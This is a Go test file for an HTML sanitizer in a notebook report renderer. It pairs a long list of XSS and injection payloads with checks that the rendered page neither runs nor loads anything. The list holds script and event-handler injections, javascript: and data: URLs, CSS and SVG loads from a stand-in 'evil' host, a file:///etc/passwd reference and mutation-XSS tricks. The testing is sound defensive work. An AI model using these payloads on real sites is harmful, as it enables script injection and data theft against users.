// This file attacks the page.

package report

import (
	"html/template"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"cajal/notebooks/nbformat"
)

// attacks are pieces of HTML, SVG and Markdown that try to run a script, to
// load something, to leave their place or to take the page's names.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil/x.js></sCrIpT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="http://evil/x.png" srcset="http://evil/y.png 2x">`,
	`<img src="//evil/x.png">`,
	`<img src="data:text/html;base64,PHNjcmlwdD4=">`,
	`<img src="file:///etc/passwd">`,
	`<IMG SRC="jav&#x09;ascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" java&#10;script:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:x">x</a>`,
	`<a href="#x" onclick="alert(1)" ping="http://evil/">x</a>`,
	`<iframe src="http://evil/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="http://evil/"></object><embed src="http://evil/">`,
	`<link rel=stylesheet href="http://evil/x.css"><meta http-equiv=refresh content="0;url=http://evil/">`,
	`<base href="http://evil/">`,
	`<form action="http://evil/"><input name=q><button>go</button></form>`,
	`<video src="http://evil/x.mp4" poster="http://evil/x.png"></video><audio src="http://evil/"></audio>`,
	`<style>@import "http://evil/x.css"; body { background: url(http://evil/x.png) }</style>`,
	`<style>@import url(//evil/x);@font-face { font-family: x; src: url(http://evil/x.woff) }</style>`,
	`<style>p { background: ur\6c(http://evil/x) } p{color:red}</style>`,
	`<style>p { background: URL ( http://evil/ ); content: attr(x) } body { display: none } </style>`,
	`<style>} body { display:none } .x{`,
	`<style>a{}</style/><script>alert(1)</script>`,
	`<style>p:before{content:"</style><script>alert(1)</script>"}</style>`,
	`<p style="background:url(http://evil/x);position:fixed;inset:0">x</p>`,
	`<p style="background-image: image-set('http://evil/x' 1x)">x</p>`,
	`<p style="width: expression(alert(1)); -moz-binding: url(http://evil/)">x</p>`,
	`<p style='background:u/**/rl(http://evil/)'>x</p>`,
	`<div style="--x: url(http://evil/x); background: var(--x)">x</div>`,
	`<svg><script>alert(1)</script><script href="http://evil/"/></svg>`,
	`<svg onload=alert(1)><rect onmouseover="alert(1)"/></svg>`,
	`<svg><foreignObject><iframe src="http://evil/"></iframe><script>alert(1)</script></foreignObject></svg>`,
	`<svg><image href="http://evil/x.png"/><image xlink:href="//evil/x.png"/></svg>`,
	`<svg><use href="http://evil/x.svg#a"/><use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#a"/></svg>`,
	`<svg><a href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><rect fill="url(http://evil/x.svg#g)" style="fill:url('//evil/x#g')"/></svg>`,
	`<svg><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/></svg>`,
	`<svg><feImage href="http://evil/x.png"/><filter id=f><feImage href="http://evil/"/></filter></svg>`,
	`<svg><style>@import url(http://evil/x.css); rect { fill: url(http://evil/x) }</style></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><title><script>alert(1)</script><img src=x onerror=alert(1)></title></svg>`,
	`<svg><desc><img src=x onerror=alert(1)></desc></svg>`,
	`<svg></p><style><g title="</style><img src onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<input type="radio" name="nb-x" id="nb-top" onclick="alert(1)" formaction="//evil" autofocus onfocus="alert(1)" style="position:fixed;background:url(//evil)">`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml><maction actiontype="statusline#http://evil">x</maction></math>`,
	`<math><mtext><svg><style><img src=x onerror=alert(1)></style></svg></mtext></math>`,
	"$\\text{<img src=x onerror=alert(1)>}$ $$\\href{javascript:alert(1)}{x}$$ $\\color{red;background:url(//evil)}{x}$",
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>`,
	`<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>`,
	`<template><script>alert(1)</script></template>`,
	`<!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<p title='"><script>alert(1)</script>'>x</p>`,
	`<p id="nb-cell-1" class="nb-contents">x</p><a id="nb-o1-1">y</a>`,
	`<p id="nb-nb-cell-1">x</p><p id="nb-nb-nb-top">y</p>`,
	`<style>:root ~ section { display: none } body + * { display: none } html:is(*) ~ p { color: red }</style>`,
	`<style>:root { position: absolute; display: contents; inset: 0; margin: -100px; color: red } body, p { display: contents; transform: scale(9) }</style>`,
	`<style>:root > * { position: absolute } p ~ * { color: red } p:not( { color: red } a) ~ b { color: red } [x=" { color: red }</style>`,
	`</div></section></main></body></html><script>alert(1)</script>`,
	`</pre></code><script>alert(1)</script>`,
	"[x](javascript:alert(1)) ![x](http://evil/x.png) <javascript:alert(1)>",
	"[x](data:text/html;base64,PHNjcmlwdD4=)",
	"```\"><script>alert(1)</script>\nx\n```",
	"# <script>alert(1)</script> <img src=x onerror=alert(1)>",
	"# x\" onmouseover=\"alert(1)",
	"<div\n\nonclick=alert(1)>",
	strings.Repeat("<div>", 2000) + "<script>alert(1)</script>",
	strings.Repeat("<svg><g>", 300) + "<script>alert(1)</script>",
	"\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x1b[31m<script>alert(1)</script>",
}

// everywhere makes a notebook with the attack in every place that a page shows.
func everywhere(attack string) *nbformat.Notebook {
	nb := nbformat.New()
	nb.Metadata["lang"] = attack
	one := 1
	var outputs []*nbformat.Output
	for _, mime := range []string{"text/html", "image/svg+xml", "text/markdown", "text/plain", "text/latex", "application/json", "image/png", "application/javascript"} {
		outputs = append(outputs, &nbformat.Output{Type: nbformat.DisplayData, Data: map[string]any{mime: attack, "text/plain": attack}, Metadata: map[string]any{mime: map[string]any{"width": attack}}})
	}
	outputs = append(outputs,
		&nbformat.Output{Type: nbformat.Stream, Name: attack, Text: attack},
		&nbformat.Output{Type: nbformat.ErrorOutput, EName: attack, EValue: attack},
		&nbformat.Output{Type: nbformat.ErrorOutput, Traceback: []string{attack}},
		&nbformat.Output{Type: nbformat.OutputType(attack), Text: attack},
	)
	nb.Cells = []*nbformat.Cell{
		{Type: nbformat.Markdown, Source: attack, Attachments: map[string]map[string]any{attack: {attack: attack}}},
		{Type: nbformat.Code, Source: attack, ExecutionCount: &one, Outputs: outputs},
		{Type: nbformat.Raw, Source: attack},
		{Type: nbformat.CellType(attack), Source: attack},
		{Type: nbformat.Markdown, Source: attack + attack},
	}
	return nb
}

func TestHostile(t *testing.T) {
	for _, attack := range attacks {
		name := attack
		if len(name) > 60 {
			name = name[:60]
		}
		t.Run(name, func(t *testing.T) {
			page, err := HTML(everywhere(attack), Options{Name: attack, Producer: attack, Failure: &Failure{Message: attack}})
			if err != nil {
				t.Fatal(err)
			}
			harmless(t, string(page))
		})
	}
}

var loads = regexp.MustCompile(`(?i)url\s*\(\s*['"]?[^#'"\s]|@import|@font-face|expression\s*\(|image-set|\\`)

// beside finds rules for what stands beside an output, and such for the output
// itself that could move it or take its bounds away.
var beside = regexp.MustCompile(`(^|, )#[\w-]+(:[^ ]*|\[[^ ]*)? *[~+]|(^|, )#[\w-]+ *\{[^}]*\b(display|position|inset|margin|transform)`)

// harmless parses a page as a browser would and looks for anything that runs,
// loads, or does not belong to the page's own frame.
func harmless(t *testing.T, page string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	ids := map[string]int{}
	bodyEnd, styles := 0, 0
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.CommentNode {
			t.Errorf("a comment: %q", n.Data)
		}
		if n.Type == html.ElementNode {
			if p := n.Parent; p.Namespace == "math" && n.Namespace != "math" || n.Namespace == "math" && !mathElements[n.Data] {
				t.Errorf("element %s %s in %s", n.Namespace, n.Data, p.Data)
			}
			switch n.Data {
			case "script", "iframe", "object", "embed", "base", "link", "form", "foreignObject", "animate", "set", "feImage",
				"template", "noscript", "video", "audio", "textarea", "button", "frame", "frameset":
				t.Errorf("element %s", n.Data)
			case "style":
				css := text(n)
				if css = strings.Replace(css, pageStyle, "", 1); loads.MatchString(css) {
					t.Errorf("style sheet %q", css)
				}
				for rule := range strings.Lines(css) {
					if r := strings.TrimSpace(rule); r != "" && r != "}" && !strings.HasPrefix(r, "#nb-") && !strings.HasPrefix(r, "@media") {
						t.Errorf("a rule reaches beyond its output: %q", rule)
					}
					if beside.MatchString(rule) {
						t.Errorf("a rule moves or leaves its output: %q", rule)
					}
				}
				styles++
			case "meta":
				for _, a := range n.Attr {
					if a.Key == "http-equiv" && a.Val != "Content-Security-Policy" {
						t.Errorf("meta %v", n.Attr)
					}
				}
			case "footer":
				bodyEnd++
			case "input":
				disabled := slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "disabled" })
				if kind := attr(n, "type"); kind != "radio" && (kind != "checkbox" || !disabled) {
					t.Errorf("input %v", n.Attr)
				}
			}
			for _, a := range n.Attr {
				value := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "srcset", a.Key == "ping", a.Key == "action", a.Key == "srcdoc", a.Key == "poster":
					t.Errorf("attribute %s=%q of %s", a.Key, a.Val, n.Data)
				case a.Key == "src" && !embedded(a.Val):
					t.Errorf("src %q of %s", a.Val, n.Data)
				case a.Key == "href" && n.Data == "a" && n.Namespace == "":
					if !strings.HasPrefix(value, "#") && !scheme(value, "http://", "https://", "mailto:") {
						t.Errorf("link to %q", a.Val)
					}
				case a.Key == "href" && n.Data == "image":
					if !embedded(a.Val) {
						t.Errorf("image %q", a.Val)
					}
				case a.Key == "href" && !strings.HasPrefix(value, "#"):
					t.Errorf("href %q of %s", a.Val, n.Data)
				case a.Key == "style" && (loads.MatchString(a.Val) || strings.Contains(value, "position:fixed")):
					t.Errorf("style %q of %s", a.Val, n.Data)
				case a.Key == "id":
					ids[a.Val]++
				case a.Key != "class" && a.Key != "alt" && a.Key != "title" && a.Key != "content" && n.Namespace == "svg" && loads.MatchString(a.Val):
					t.Errorf("attribute %s=%q of %s", a.Key, a.Val, n.Data)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	for id, n := range ids {
		if n > 1 {
			t.Errorf("id %q is there %d times", id, n)
		}
	}
	if bodyEnd != 1 || styles < 1 {
		t.Errorf("the page's frame is broken: %d footers, %d style sheets", bodyEnd, styles)
	}
	if t.Failed() {
		t.Logf("page:\n%s", strings.Replace(page, pageStyle, "", 1))
	}
}

// TestStable wants that what was cleaned reads as it was written: cleaning it
// again changes nothing, so that no browser sees another tree.
func TestStable(t *testing.T) {
	for _, attack := range attacks {
		same := func() *sanitizer {
			return &sanitizer{scope: "#s", seen: map[string]bool{}, rename: func(id string) string { return id }}
		}
		once, _ := same().clean(attack)
		twice, _ := same().clean(string(once))
		// Scopes are put before scoped rules again; that is meant.
		strip := func(h template.HTML) string { return strings.ReplaceAll(string(h), "#s ", "") }
		if strip(once) != strip(twice) {
			t.Errorf("%.80q\nonce  %.200q\ntwice %.200q", attack, once, twice)
		}
	}
}

// TestKeeps wants that what is harmless stays.
func TestKeeps(t *testing.T) {
	for _, test := range []struct{ in, want string }{
		{`<b>a &lt; b</b>`, `<b>a &lt; b</b>`},
		{`<table><tr><td style="color:#c00;text-align:right" colspan=2>x</td></tr></table>`, `<table><tbody><tr><td style="color: #c00; text-align: right" colspan="2">x</td></tr></tbody></table>`},
		{`<center><font color=red>old</font></center>`, `<center><font color="red">old</font></center>`},
		{`<blink>x</blink>`, `x`},
		{`<details open><summary>s</summary>d</details>`, `<details open=""><summary>s</summary>d</details>`},
		{`<a href="https://go.dev/?a=1&b=2">go</a>`, `<a href="https://go.dev/?a=1&amp;b=2" rel="noopener noreferrer">go</a>`},
		{`<p id="p"><a href="#p">up</a> <a href="#else">else</a>`, `<p id="o-p"><a href="#o-p">up</a> <a href="#else">else</a></p>`},
		{`<label for="x">l</label><p aria-labelledby="a b">`, `<label for="o-x">l</label><p aria-labelledby="o-a o-b"></p>`},
		{`<div style="background: linear-gradient(90deg, rgb(1 2 3), var(--x)); --y: 3px">x</div>`, `<div style="background: linear-gradient(90deg, rgb(1 2 3), var(--x)); --y: 3px">x</div>`},
		{
			`<svg viewBox="0 0 1 1"><linearGradient id="g"/><rect fill="url(#g)" style="stroke: url('#g')" transform="rotate(3)"/></svg>`,
			`<svg viewBox="0 0 1 1"><linearGradient id="o-g"></linearGradient><rect fill="url(#o-g)" style="stroke: url(#o-g)" transform="rotate(3)"></rect></svg>`,
		},
		{`<svg><symbol id="s"><path d="M0 0"/></symbol><use xlink:href="#s"/></svg>`, `<svg><symbol id="o-s"><path d="M0 0"></path></symbol><use href="#o-s"></use></svg>`},
		{`<svg><metadata>{"x": 1}</metadata><text x="1">a<tspan>b</tspan></text></svg>`, `<svg><text x="1">a<tspan>b</tspan></text></svg>`},
		{`<svg><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>`, `<svg><g id="o-a"></g><g id="o-b"></g></svg>`},
		{
			`<style>.a, td:first-child > b { color: red; margin: 0 } @media (max-width: 600px) { .a { color: blue } } :root { --x: 1 }</style>`,
			"<style>\n#o .a, #o td:first-child > b { color: red; margin: 0 }\n@media (max-width: 600px) {\n#o .a { color: blue }\n}\n#o { --x: 1 }\n</style>",
		},
		{`<style>body { margin: 0; color: red } body > p, html .x { color: blue } body.dark p { color: green }</style>`, "<style>\n#o { color: red }\n#o > p, #o .x { color: blue }\n</style>"},
		{`<svg role="img" aria-label="l" aria-describedby="d"><title>t &lt; u</title><desc id="d">d<b>bold</b></desc><rect/></svg>`, `<svg role="img" aria-label="l" aria-describedby="o-d"><title>t &lt; u</title><desc id="o-d">d</desc><rect></rect></svg>`},
		{"<pre>\n\nx</pre>", "<pre>\n\nx</pre>"},
	} {
		got, _ := prefixed("o").clean(test.in)
		if string(got) != test.want {
			t.Errorf("of  %s\ngot  %s\nwant %s", test.in, got, test.want)
		}
	}
}

func TestANSI(t *testing.T) {
	for in, want := range map[string]string{
		"plain <b>":                       "plain &lt;b&gt;",
		"\x1b[31mred\x1b[0m":              `<span class="a-f1">red</span>`,
		"\x1b[1;94mx\x1b[22my\x1b[mz":     `<span class="a-b a-f12">x</span><span class="a-f12">y</span>z`,
		"\x1b[38;5;196mx\x1b[39my":        `<span style="color:#ff0000">x</span>y`,
		"\x1b[48;2;1;2;3mx":               `<span style="background-color:#010203">x</span>`,
		"\x1b[38;5;244mx":                 `<span style="color:#808080">x</span>`,
		"\x1b[7mx\x1b[27my":               `<span class="a-fbg a-gfg">x</span>y`,
		"\x1b[2J\x1b[3;4Hx\x1b[?25l\x07y": "xy",
		"\x1b[31":                         "",
		"\x1b[38;5m\x1b[38mx":             "x",
		"a\x1b":                           "a",
		"\x1b[999999999999mx":             "x",
	} {
		if got := string(ansi(in)); got != want {
			t.Errorf("ansi(%q)\ngot  %s\nwant %s", in, got, want)
		}
	}
}

// FuzzPage wants that no text, wherever it stands, makes a page dangerous.
func FuzzPage(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, s string) {
		page, err := HTML(everywhere(s), Options{Name: s, Producer: "fuzz"})
		if err != nil {
			t.Fatal(err)
		}
		harmless(t, string(page))
	})
}
